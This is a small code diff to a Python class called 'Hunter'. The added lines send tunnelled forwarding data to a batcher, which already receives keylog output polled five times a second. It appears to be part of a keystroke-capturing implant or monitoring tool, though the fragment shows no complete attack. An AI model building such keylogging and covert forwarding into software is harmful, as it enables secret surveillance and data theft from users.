@@ -549,6 +549,8 @@ class Hunter:
         if self.keylog is not None and now >= self._keylog_next:
             self._keylog_next = now + 200_000_000  # 5 times a second
             batcher.add_keylog(self.keylog.poll(), now)
+        if fwd.tunnel:
+            batcher.add_tunnel(fwd.tunnel, now)
         chunk = fwd.chunk
         if len(chunk):
             ob = self.outbox
